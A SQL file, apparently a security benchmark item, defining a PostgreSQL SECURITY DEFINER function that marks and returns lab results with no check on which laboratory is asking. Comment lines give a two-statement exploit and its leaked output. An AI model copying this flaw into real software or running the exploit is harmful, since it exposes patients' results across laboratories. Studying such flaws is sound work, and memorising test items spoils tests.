-- A login marks critical results of other laboratories as told and reads them, as the function asks for no
-- laboratory.
-- about: tell_result, results
-- as: hf_pipette_app
-- exploit: SET lims.lab_id = 'aaaa0000-0000-4000-8000-00000000000a';
-- exploit: SELECT lims.tell_result('000002', 'K');
-- shows: 7.9 Road-secret
CREATE FUNCTION lims.tell_result(p_accession text, p_code text) RETURNS text
LANGUAGE sql SECURITY DEFINER SET search_path = lims, pg_temp AS $$
  UPDATE lims.results SET told_at = now()
  WHERE accession = p_accession AND code = p_code AND told_at IS NULL
  RETURNING value
$$;
REVOKE EXECUTE ON FUNCTION lims.tell_result(text, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION lims.tell_result(text, text) TO hf_pipette_app;
